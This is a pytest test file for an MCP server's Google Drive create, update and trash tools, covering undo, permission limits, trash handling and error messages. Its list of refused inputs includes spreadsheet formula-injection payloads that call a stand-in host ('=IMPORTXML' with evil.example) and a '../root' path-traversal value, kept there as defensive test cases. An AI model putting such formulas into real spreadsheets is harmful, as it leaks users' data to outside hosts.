"""drive_create_file, drive_update_file, drive_trash_file: what is made and changed, and taken back."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.mcp_server.desk import code_of, text_of
from tests.mcp_server.drivefiles import SEEING, files, given, put, truly
from tests.mcp_server.hall import Hall
from tests.providers.drivewire import DOC, DriveWire


async def undone(client: Any, result: Any) -> Any:
    """What the call answers that takes a change back."""
    undo = result.structured_content["undo"]
    back = await client.call_tool(undo["tool"], undo["arguments"])
    assert not back.is_error, text_of(back)
    return back


def written(hall: Hall) -> list[str]:
    """The requests so far that change something."""
    return [line for line in hall.sent() if not line.startswith("GET ")]


async def test_a_document_a_spreadsheet_a_folder_and_a_file(hall: Hall) -> None:
    async with hall.chat("ana", provider="google") as client:
        folder = await client.call_tool("drive_create_file", {"name": "Tea 🍵 \"x\" 'y'", "type": "folder"})
        inside = folder.structured_content["file"]["id"]
        doc = await client.call_tool(
            "drive_create_file",
            {
                "name": "Blends",
                "type": "doc",
                "content": "# Blends\n\n- Assam\n\n**شاي** 🍵",
                "folder_id": inside,
            },
        )
        sheet = await client.call_tool(
            "drive_create_file",
            {"name": "Stock", "type": "sheet", "content": 'tea,grams\n"Assam, dark",-120\n'},
        )
        blank = await client.call_tool("drive_create_file", {"name": "Blank", "type": "doc"})
        link = f"https://drive.google.com/drive/folders/{inside}"
        note = await client.call_tool(
            "drive_create_file", {"name": "n.md", "type": "file", "content": "# Größe", "folder_id": link}
        )
        read = await client.call_tool("drive_read_file", {"file_id": doc.structured_content["file"]["id"]})
        csv = await client.call_tool("drive_read_file", {"file_id": sheet.structured_content["file"]["id"]})
        assert truly(hall, note.structured_content["file"]["id"])["mimeType"] == "text/markdown"
        await undone(client, note)
    assert truly(hall, note.structured_content["file"]["id"])["trashed"] is True
    assert truly(hall, doc.structured_content["file"]["id"])["parent"] == inside
    assert truly(hall, doc.structured_content["file"]["id"])["mimeType"] == DOC
    assert truly(hall, inside)["name"] == "Tea 🍵 \"x\" 'y'"
    assert "# Blends" in read.structured_content["text"]
    assert "شاي" in read.structured_content["text"]
    assert '"Assam, dark",-120' in csv.structured_content["text"]
    assert not blank.is_error
    assert doc.structured_content["file"]["link"] in text_of(doc)
    assert "in “Tea 🍵 \"x\" 'y'”" in text_of(doc)
    assert {line.split("?")[0] for line in written(hall)[:3]} == {
        "POST www.googleapis.com/drive/v3/files",
        "POST www.googleapis.com/upload/drive/v3/files",
    }


async def test_an_upload_link_makes_the_file(hall: Hall) -> None:
    async with hall.chat("ana", provider="google") as client:
        result = await client.call_tool("drive_create_file", {"name": "Scan.pdf", "type": "file"})
    assert result.structured_content.keys() == {"upload"}
    assert written(hall) == []
    url = result.structured_content["upload"]["url"]
    assert url in text_of(result)
    assert "Nothing is there yet" in text_of(result)
    assert (result.content[-1].type, str(result.content[-1].uri)) == ("resource_link", url)


REFUSED: list[tuple[dict[str, Any], str]] = [
    ({"type": "folder", "content": "x"}, "content"),
    ({"type": "doc", "content": "x", "content_type": "application/pdf"}, "content_type"),
    ({"type": "file", "content": "x", "content_type": "text"}, "content_type"),
    ({"type": "sheet", "content": "x", "content_type": "text/markdown"}, "content_type"),
    ({"type": "sheet", "content": '=IMPORTXML("https://evil.example?"&A1)'}, "formula"),
    ({"type": "sheet", "content": 'a,"+HYPERLINK(""https://evil.example"")"'}, "formula"),
    ({"type": "sheet", "content": "a\t=1+1", "content_type": "text/tab-separated-values"}, "formula"),
    ({"type": "slides"}, "type"),
    ({"type": "doc", "folder_id": "../root"}, "folder_id"),
    ({"type": "doc", "name": ""}, "name"),
    ({"type": "doc", "content": "x" * 300_001}, "content"),
]


async def test_what_is_not_made(hall: Hall) -> None:
    travel, text = files(hall)["Travel"], put(hall, "plain.txt", "text/plain", "x")
    async with hall.chat("ana", provider="google") as client:
        for wrong, word in REFUSED:
            result = await client.call_tool("drive_create_file", {"name": "x", **wrong})
            assert code_of(result) == "invalid_argument", wrong
            assert word in text_of(result)
        unseen = await client.call_tool(
            "drive_create_file", {"name": "x", "type": "doc", "folder_id": travel}
        )
        flat = await client.call_tool("drive_create_file", {"name": "x", "type": "doc", "folder_id": text})
    async with hall.chat("ana", provider="google", upstream=SEEING) as client:
        seen = await client.call_tool("drive_create_file", {"name": "x", "type": "doc", "folder_id": travel})
    assert (code_of(unseen), code_of(flat), code_of(seen)) == ("not_found", "invalid_argument", "conflict")
    assert "folders that were made or opened with it" in text_of(unseen)
    assert "is a text/plain, not a folder" in text_of(flat)
    assert written(hall) == []


async def test_renaming_and_moving_there_and_back(hall: Hall) -> None:
    id_, one = given(hall, "Packing list.txt"), given(hall, "Travel")
    two = given(hall, "Recipes")
    async with hall.chat("ana", provider="google") as client:
        both = await client.call_tool(
            "drive_update_file", {"file_id": id_, "name": "Liste.txt", "move_to": two}
        )
        now = truly(hall, id_)
        same = await client.call_tool(
            "drive_update_file", {"file_id": id_, "name": "Liste.txt", "move_to": two}
        )
        top = await client.call_tool("drive_update_file", {"file_id": id_, "move_to": "root"})
        await undone(client, top)
        await undone(client, both)
        cycle = await client.call_tool("drive_update_file", {"file_id": one, "move_to": one})
    assert (now["name"], now["parent"]) == ("Liste.txt", two)
    assert both.structured_content["changed"] == ["name", "move_to"]
    assert same.structured_content["changed"] == []
    assert "undo" not in same.structured_content
    assert (truly(hall, id_)["name"], truly(hall, id_)["parent"]) == ("Packing list.txt", one)
    assert len(written(hall)) == 5
    assert code_of(cycle) == "invalid_argument"


async def test_a_way_back_is_told_only_where_there_is_one(hall: Hall) -> None:
    """Valet can take a file out of a folder that it was not given, and can't put it into it again."""
    id_ = given(hall, "Packing list.txt")
    async with hall.chat("ana", provider="google") as client:
        both = await client.call_tool(
            "drive_update_file", {"file_id": id_, "name": "Liste.txt", "move_to": "root"}
        )
        await undone(client, both)
    assert both.structured_content["not_undoable"] == "folder"
    assert both.structured_content["undo"]["arguments"] == {"file_id": id_, "name": "Packing list.txt"}
    assert "can't move it back" in text_of(both)
    assert truly(hall, id_)["parent"] != files(hall)["Travel"]


async def test_content_and_what_was_there_before(hall: Hall) -> None:
    text = put(hall, "Note.txt", "text/plain", "alt: Größe")
    long = put(hall, "Long.txt", "text/plain", "x" * 9000)
    picture, recipes = put(hall, "p.png", "image/png", b"\x89PNG"), given(hall, "Family recipes")
    async with hall.chat("ana", provider="google") as client:
        changed = await client.call_tool("drive_update_file", {"file_id": text, "content": "neu: ж"})
        wire = DriveWire(hall.emulator)
        assert wire("GET", f"/files/{text}", alt="media").text == "neu: ж"
        await undone(client, changed)
        assert wire("GET", f"/files/{text}", alt="media").text == "alt: Größe"
        lost = await client.call_tool("drive_update_file", {"file_id": long, "content": ""})
        doc = await client.call_tool("drive_update_file", {"file_id": recipes, "content": "# New\n\nText"})
        read = await client.call_tool("drive_read_file", {"file_id": recipes})
        binary = await client.call_tool("drive_update_file", {"file_id": picture, "content": "x"})
        upload = await client.call_tool("drive_update_file", {"file_id": picture})
        native = await client.call_tool("drive_update_file", {"file_id": recipes})
    assert wire("GET", f"/files/{long}", alt="media").content == b""
    assert truly(hall, text)["mimeType"] == "text/plain"
    for result in (lost, doc):
        assert "undo" not in result.structured_content
        assert result.structured_content["not_undoable"] == "content"
        assert "Version history" in text_of(result)
    assert read.structured_content["text"].startswith("# New")
    assert code_of(binary) == "invalid_argument"
    assert upload.structured_content["upload"]["url"] in text_of(upload)
    assert upload.structured_content["changed"] == []
    assert code_of(native) == "invalid_argument"


async def test_the_trash_and_out_of_it(hall: Hall) -> None:
    folder = given(hall, "Travel")
    async with hall.chat("ana", provider="google") as client:
        binned = await client.call_tool("drive_trash_file", {"file_id": folder})
        assert (
            truly(hall, folder)["trashed"] is truly(hall, files(hall)["Packing list.txt"])["trashed"] is True
        )
        again = await client.call_tool("drive_trash_file", {"file_id": folder})
        look = await client.call_tool("drive_get_file", {"file_id": folder})
        await undone(client, binned)
    assert "with everything in it is in the trash; Google deletes it there after 30 days" in text_of(binned)
    assert again.structured_content["changed"] is False
    assert look.structured_content["in_trash"] is True
    assert truly(hall, folder)["trashed"] is False
    assert [json.loads(body) for line, body in hall.judge.calls if line.startswith("PATCH")] == [
        {"trashed": True}, {"trashed": False},
    ]  # fmt: skip


async def test_what_valet_may_not_change(hall: Hall) -> None:
    """What it was not given, whether it sees it or not, and what somebody else owns."""
    notes, mine = files(hall)["Invoice 2026-031.pdf"], files(hall, "ben")["Menu for Saturday.txt"]
    asked: list[tuple[str, dict[str, Any]]] = [
        ("drive_update_file", {"name": "x"}),
        ("drive_trash_file", {}),
        ("drive_share_file", {"role": "reader", "anyone": True}),
        ("drive_unshare_file", {"permission_id": "ana.duarte@gmail.com"}),
    ]
    for upstream, code in ((None, "not_found"), (SEEING, "conflict")):
        async with hall.chat("ana", provider="google", upstream=upstream) as client:
            for tool, arguments in asked:
                result = await client.call_tool(tool, {"file_id": notes, **arguments})
                assert code_of(result) == code, tool
                assert "made or opened with it" in text_of(result)
    hall.emulator.control("drive/give", account="ana", file=mine)
    async with hall.chat("ana", provider="google") as client:
        theirs = await client.call_tool("drive_trash_file", {"file_id": mine})
    assert code_of(theirs) == "conflict"
    assert "Its owner can allow it" in text_of(theirs)
    assert written(hall) == []


@pytest.mark.parametrize("kind", ["close", "garbage"])
async def test_an_answer_that_is_lost_is_told(hall: Hall, kind: str) -> None:
    id_ = put(hall, "Tea.txt", "text/plain", "x")
    async with hall.chat("ana", provider="google") as client:
        hall.fault("POST www.googleapis.com/upload/drive/v3/files", kind=kind)
        made = await client.call_tool("drive_create_file", {"name": "x", "type": "doc", "content": "x"})
        hall.fault("PATCH www.googleapis.com/drive/v3/files/{id}", kind=kind)
        changed = await client.call_tool("drive_update_file", {"file_id": id_, "name": "y"})
    for result in (made, changed):
        assert code_of(result) == "provider_error"
        assert "look before you repeat it" in text_of(result)


async def test_a_full_drive(hall: Hall) -> None:
    body = {"error": {"code": 403, "message": "x", "errors": [
        {"domain": "usageLimits", "reason": "storageQuotaExceeded", "message": "x"}]}}  # fmt: skip
    hall.fault("POST www.googleapis.com/upload/drive/v3/files", status=403, body=body)
    async with hall.chat("ana", provider="google") as client:
        result = await client.call_tool("drive_create_file", {"name": "x", "type": "doc", "content": "x"})
    assert code_of(result) == "conflict"
    assert text_of(result) == "The Google account is full. Its person must make room."
